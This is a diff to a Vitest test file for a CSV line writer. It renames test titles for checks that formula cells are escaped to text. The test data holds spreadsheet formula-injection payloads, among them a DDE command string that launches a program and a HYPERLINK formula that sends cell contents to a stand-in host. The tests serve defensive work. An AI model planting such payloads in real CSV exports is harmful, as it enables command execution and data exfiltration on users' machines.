@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { csvLine } from './csv-line.ts';
 
-describe('a cell that a spreadsheet would run is made text', () => {
+describe('formulas in cells', () => {
   test.each([
     "=cmd|'/c calc'!A1",
     '=HYPERLINK("https://canary.example/?"&A1,"Open")',
@@ -24,16 +24,16 @@ describe('a cell that a spreadsheet would run is made text', () => {
     '\uFF0B1',
     '\uFF0D1',
     '\uFF20SUM(A1)',
-  ])('%j', (text) => {
+  ])('a CSV cell with the formula %j becomes text', (text) => {
     expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\n`);
   });
 });
 
-test('A text cannot leave its cell: not by quotes, not by line breaks, not by the separator of another country.', () => {
+test('a text stays in its CSV cell despite quotes, line breaks and other separators', () => {
   expect(csvLine(['a",=1+1,"', 'b\n=1+1', 'c;=1+1', 'd\t=1+1'])).toBe('"a"",=1+1,""","b\n=1+1","c;=1+1","d\t=1+1"\n');
 });
 
-test('Ordinary cells stay as they are: numbers, addresses, words with signs within, nothing.', () => {
+test('ordinary CSV cells stay unchanged: numbers, addresses, words with signs, empty cells', () => {
   expect(csvLine([9, -1, null, undefined, 'ada@books.example', 'a = b', { a: 1 }])).toBe(
     '9,-1,,,"ada@books.example","a = b","{""a"":1}"\n',
   );
